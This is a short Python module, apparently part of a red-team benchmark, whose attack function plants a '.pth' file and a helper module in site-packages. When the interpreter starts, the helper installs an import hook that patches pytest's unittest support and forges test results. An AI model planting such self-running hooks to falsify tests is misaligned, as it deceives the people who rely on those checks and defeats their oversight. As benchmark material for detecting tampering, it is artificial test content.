"""A .pth file in site-packages patches pytest as soon as it is loaded."""

from bench.redteam.pieces import FORGED
from bench.redteam.view import View, put

CODE = """
import sys
class Patching:
    def find_spec(self, name, path=None, target=None):
        if name == "_pytest.unittest":
            sys.meta_path.remove(self)
            _forge()
sys.meta_path.insert(0, Patching())
"""


def attack(view: View) -> None:
    site = view.outside / "site-packages"
    put(site / "_reporting.py", FORGED + CODE)
    put(site / "reporting.pth", "import _reporting\n")
